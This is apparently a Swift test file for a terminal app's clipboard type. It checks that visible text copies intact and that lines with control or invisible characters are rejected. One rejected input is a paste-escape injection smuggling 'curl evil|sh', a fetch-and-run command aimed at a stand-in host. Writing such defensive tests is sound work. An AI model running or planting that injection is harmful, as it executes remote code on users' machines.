import Testing

@testable import Terminal

struct ClipboardTextTests {
  @Test(arguments: [
    (["https://github.com/octocat"], "https://github.com/octocat"), (["a@b.example", "c"], "a@b.example\nc"),
    (["ssh-ed25519 AAAA mona@laptop"], "ssh-ed25519 AAAA mona@laptop"), (["Grüße 👩‍💻 日本"], "Grüße 👩‍💻 日本"), ([""], ""),
  ])
  func `Lines of visible text can be copied`(lines: [String], text: String) {
    #expect(ClipboardText(untrusted: lines)?.string == text)
  }

  @Test(arguments: [
    "https://x/\u{1B}[201~\ncurl evil|sh\n", "a\nb", "a\r", "a\tb", "\u{7}", "\u{0}", "\u{7F}", "a\u{9B}31m",
    "a\u{202E}b",
    "a\u{200B}b", "a\u{2028}b", "a\u{E0041}", "a\u{34F}b", "a\u{17B4}b", "a\u{180B}b",
    "🏴\u{E0072}\u{E006D}\u{E0072}\u{E0066}\u{E007F}",
  ])
  func `A line with control or invisible characters cannot be copied`(line: String) {
    #expect(ClipboardText(untrusted: [line]) == nil)
    #expect(ClipboardText(untrusted: ["visible", line]) == nil)
  }
}
